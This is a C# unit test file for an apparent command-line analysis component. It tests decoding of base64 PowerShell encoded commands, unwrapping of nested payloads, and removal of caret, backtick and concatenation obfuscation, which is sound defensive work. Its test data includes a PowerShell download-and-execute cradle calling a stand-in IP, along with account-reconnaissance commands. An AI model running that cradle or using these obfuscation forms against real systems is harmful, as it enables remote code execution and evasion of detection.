using System.Text;
using Verdict.Attack.Mapping;

namespace Verdict.Tests.Attack.Mapping;

public sealed class CommandLineViewTests
{
    private static string Encode(string script) => Convert.ToBase64String(Encoding.Unicode.GetBytes(script));

    [Theory]
    [InlineData("-enc")]
    [InlineData("-EncodedCommand")]
    [InlineData("-e")]
    [InlineData("/ec")]
    public void EncodedCommand_is_decoded_as_UTF16_whatever_the_flag_spelling(string flag)
    {
        var view = new CommandLineView($"powershell.exe -nop {flag} {Encode("IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.1/a')")}");

        Assert.Equal("IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.1/a')", Assert.Single(view.Decoded));
        Assert.Contains("net.webclient", view.Text);
    }

    [Fact]
    public void A_payload_inside_a_payload_is_decoded_too()
    {
        var inner = Convert.ToBase64String(Encoding.UTF8.GetBytes("whoami /priv; net user administrator"));
        var view = new CommandLineView($"powershell -enc {Encode($"[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('{inner}')) | iex")}");

        Assert.Equal(2, view.Decoded.Count);
        Assert.Contains("net user administrator", view.Text);
    }

    [Fact]
    public void Binary_that_happens_to_be_base64_is_not_shown_as_text()
    {
        var random = Convert.ToBase64String([.. Enumerable.Range(0, 48).Select(i => (byte)(i * 37 % 256))]);
        Assert.Empty(new CommandLineView($"app.exe --token {random}").Decoded);
    }

    [Theory]
    [InlineData("p^o^w^e^r^s^h^e^l^l -c whoami", "powershell -c whoami")]
    [InlineData("I`nv`oke-Ex`pression $x", "invoke-expression $x")]
    [InlineData("& ('Inv'+'oke-Exp'+'ression') $x", "& ('invoke-expression') $x")]
    [InlineData("CMD.EXE   /C   DIR", "cmd.exe /c dir")]
    public void Obfuscation_that_changes_looks_but_not_meaning_is_removed(string raw, string normalised) =>
        Assert.Equal(normalised, CommandLineView.Normalize(raw));

    [Fact]
    public void Programs_are_found_in_each_segment_without_path_or_extension()
    {
        var view = new CommandLineView(@"""C:\Windows\System32\cmd.exe"" /c whoami /all & net.exe user /domain | findstr admin");

        Assert.Superset(new HashSet<string> { "cmd", "whoami", "net", "findstr" }, (HashSet<string>)[.. view.Programs]);
        Assert.True(view.Runs("net"));
        Assert.False(view.Runs("user"));
    }
}
